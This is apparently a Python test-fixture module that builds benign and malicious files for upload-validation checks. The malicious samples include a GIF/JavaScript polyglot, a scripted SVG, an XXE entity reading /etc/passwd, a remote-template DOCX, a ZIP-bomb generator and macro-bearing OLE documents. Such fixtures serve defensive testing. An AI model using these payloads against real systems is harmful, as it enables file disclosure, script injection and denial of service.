"""Real files made in code, good and malicious, for the upload checks (no sample is shipped or fetched).

Good ones come from the libraries that write these formats (fpdf2, Pillow, xlsxwriter, openpyxl) or
are built part by part as the format says (OOXML, ODF, OLE compound files); the malicious ones are the
same with what an attacker adds.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

# -- PDF and images --------------------------------------------------------------------------------


def pdf(text: str = "Facture n° 42") -> bytes:
    from fpdf import FPDF

    doc = FPDF()
    doc.add_page()
    doc.set_font("Helvetica", size=12)
    doc.cell(0, 10, text.encode("latin-1", "replace").decode("latin-1"))
    return bytes(doc.output())


def image(format: str = "PNG", size=(16, 12)) -> bytes:
    from PIL import Image

    picture = Image.new("RGB", size, (0, 0, 145))
    for x in range(size[0]):
        picture.putpixel((x, x % size[1]), (255, 255, 255))
    out = io.BytesIO()
    picture.save(out, format=format)
    return out.getvalue()


PNG = image("PNG")
JPEG = image("JPEG")
GIF = image("GIF")


def gif_js_polyglot() -> bytes:
    """A GIF whose header is also JavaScript: its width bytes open a comment ("/*") that closes after
    the image data, then code follows (served as a script, it runs)."""
    header = b"GIF89a" + b"/*" + b"\x0a\x00" + b"\x00\x00\x00"  # width 0x2a2f, height 10, no colour table
    image_block = b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00"
    return header + image_block + b"*/=1;alert(document.domain);//" + b"\x3b"


# -- text ----------------------------------------------------------------------------------------------

XML = b"<?xml version='1.0' encoding='UTF-8'?>\n<facture numero='42'><montant>12.50</montant></facture>\n"
SVG = b"<?xml version='1.0'?>\n<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>\n"
XHTML = (b"<?xml version='1.0'?>\n<html xmlns='http://www.w3.org/1999/xhtml'><body>"
         b"<p>Bonjour</p></body></html>\n")  # fmt: skip
XXE = (b"<?xml version='1.0'?>\n<!DOCTYPE facture [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>\n"
       b"<facture>&x;</facture>\n")  # fmt: skip
HTML = b"<!DOCTYPE html>\n<html><body><script>document.location='https://exemple.invalid/'</script></body></html>\n"


# -- ZIP and the formats built on it -----------------------------------------------------------------


def zip_of(entries: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


_WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def docx_entries(main: str = _WORD_MAIN, text: str = "Bonjour") -> dict[str, bytes]:
    """The parts of a minimal Word document, as Word lays them out."""
    return {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
        ).encode(),
        "_rels/.rels": (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'officeDocument" Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
        ).encode(),
        "word/_rels/document.xml.rels": (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'hyperlink" Target="https://exemple.fr/" TargetMode="External"/></Relationships>'
        ),
    }


def docx(**extra: bytes) -> bytes:
    return zip_of({**docx_entries(), **extra})


def remote_template_docx() -> bytes:
    """A document that fetches its (macro) template from a server when it opens."""
    entries = docx_entries()
    entries["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="https://exemple.invalid/modele.dotm" TargetMode="External"/></Relationships>'
    )
    return zip_of(entries)


def xlsx_xlsxwriter() -> bytes:
    import xlsxwriter

    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet("Factures")
    sheet.write_row(0, 0, ["Numéro", "Montant"])
    sheet.write_row(1, 0, [42, 12.5])
    book.close()
    return out.getvalue()


def xlsx_openpyxl() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["Numéro", "Montant"])
    book.active.append([42, 12.5])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


ODT_MIME = b"application/vnd.oasis.opendocument.text"


def odt(**extra: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), ODT_MIME, compress_type=zipfile.ZIP_STORED)
        archive.writestr(
            "META-INF/manifest.xml",
            b'<?xml version="1.0"?><manifest:manifest xmlns:manifest='
            b'"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        )
        archive.writestr(
            "content.xml",
            b'<?xml version="1.0"?><office:document-content xmlns:office='
            b'"urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
        )
        for name, content in extra.items():
            archive.writestr(name, content)
    return out.getvalue()


def zeros_zip(name: str, size: int) -> bytes:
    """A ZIP of one entry of `size` zero bytes, made without compressing them: deflate turns each MiB of
    zeros, flushed, into the same bytes, so the entry is those bytes repeated (a 1 GiB bomb is 1 Mo)."""
    mib = 1024 * 1024
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = deflater.compress(b"\x00" * mib) + deflater.flush(zlib.Z_FULL_FLUSH)
    block = deflater.compress(b"\x00" * mib) + deflater.flush(zlib.Z_FULL_FLUSH)
    whole, rest = divmod(size, mib)
    assert rest == 0 and whole >= 2
    data = first + block * (whole - 1) + deflater.flush()
    crc = 0
    chunk = b"\x00" * mib
    for _ in range(whole):
        crc = zlib.crc32(chunk, crc)
    encoded = name.encode()
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded), 0)
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(data), size,
                          len(encoded), 0, 0, 0, 0, 0o644 << 16, 0)  # fmt: skip
    offset = len(local) + len(encoded) + len(data)
    directory = central + encoded
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), offset, 0)
    return local + encoded + data + directory + end


# -- OLE compound files (doc, xls, ppt) ----------------------------------------------------------------

_END, _FREE, _FAT, _NONE = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def ole(streams: dict[tuple[str, ...], bytes]) -> bytes:
    """A compound file (version 3, 512-byte sectors) holding `streams`, each under its storages' path.

    Streams are padded to 4096 bytes so that they sit in ordinary sectors (no mini stream); siblings
    are chained by their right links (a valid, if unbalanced, tree). Enough for olefile and libmagic.
    """
    nodes = [{"name": "Root Entry", "type": 5, "kids": [], "data": None}]
    index = {(): 0}
    for path, data in streams.items():
        for depth in range(1, len(path) + 1):
            here = tuple(path[:depth])
            if here not in index:
                leaf = depth == len(path)
                index[here] = len(nodes)
                nodes.append({"name": here[-1], "type": 2 if leaf else 1, "kids": [], "data": data if leaf else None})
                nodes[index[here[:-1]]]["kids"].append(index[here])
    directory_sectors = (len(nodes) + 3) // 4
    sectors: list[bytes] = []
    for node in nodes:
        node["start"], node["size"] = _END, 0
        if node["type"] == 2:
            data = node["data"].ljust(4096, b"\x00")
            data = data.ljust(-(-len(data) // 512) * 512, b"\x00")
            node["start"], node["size"], node["count"] = (
                1 + directory_sectors + len(sectors),
                len(data),
                len(data) // 512,
            )
            sectors += [data[i : i + 512] for i in range(0, len(data), 512)]
    assert 1 + directory_sectors + len(sectors) <= 128, "one FAT sector only"
    fat = [_FREE] * 128
    fat[0] = _FAT
    for i in range(directory_sectors):
        fat[1 + i] = 2 + i if i < directory_sectors - 1 else _END
    for node in nodes:
        for k in range(node.get("count", 0)):
            fat[node["start"] + k] = node["start"] + k + 1 if k < node["count"] - 1 else _END
    right = {a: b for node in nodes for a, b in zip(node["kids"], node["kids"][1:])}
    directory = b""
    for i, node in enumerate(nodes):
        name = node["name"].encode("utf-16-le") + b"\x00\x00"
        child = node["kids"][0] if node["kids"] else _NONE
        directory += (name.ljust(64, b"\x00") + struct.pack("<HBBIII", len(name), node["type"], 1, _NONE,
                                                             right.get(i, _NONE), child)
                      + b"\x00" * 36 + struct.pack("<IQ", node["start"], node["size"]))  # fmt: skip
    for _ in range(directory_sectors * 4 - len(nodes)):  # unused entries
        directory += b"\x00" * 64 + struct.pack("<HBBIII", 0, 0, 0, _NONE, _NONE, _NONE) + b"\x00" * 36 + b"\x00" * 12
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\x00" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108)  # fmt: skip
    return header + struct.pack("<128I", *fat) + directory + b"".join(sectors)


WORD_STREAM = b"\xec\xa5\xc1\x00" + b"\x00" * 60  # a Word 97 FIB's first bytes
DOC = ole({("WordDocument",): WORD_STREAM, ("1Table",): b"\x00" * 16})
DOC_WITH_MACROS = ole({("WordDocument",): WORD_STREAM, ("1Table",): b"\x00" * 16,
                       ("Macros", "VBA", "_VBA_PROJECT"): b"\xcc\x61\xff\xff\x00", ("Macros", "VBA", "dir"): b"\x01",
                       ("Macros", "PROJECT"): b'ID="{00000000-0000-0000-0000-000000000000}"'})  # fmt: skip
DOC_WITH_PACKAGE = ole({("WordDocument",): WORD_STREAM, ("ObjectPool", "_1234", "\x01Ole10Native"): b"MZ" * 8})


def _biff(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def xls(macro_sheet: bool = False) -> bytes:
    """An Excel 97 workbook's globals: BOF, one BOUNDSHEET (a worksheet, or an Excel 4.0 macro sheet), EOF."""
    bof = _biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06))
    sheet = _biff(0x0085, struct.pack("<IBB", 0, 0, 1 if macro_sheet else 0) + b"\x04\x00Auto")
    return ole({("Workbook",): bof + sheet + _biff(0x000A, b"")})
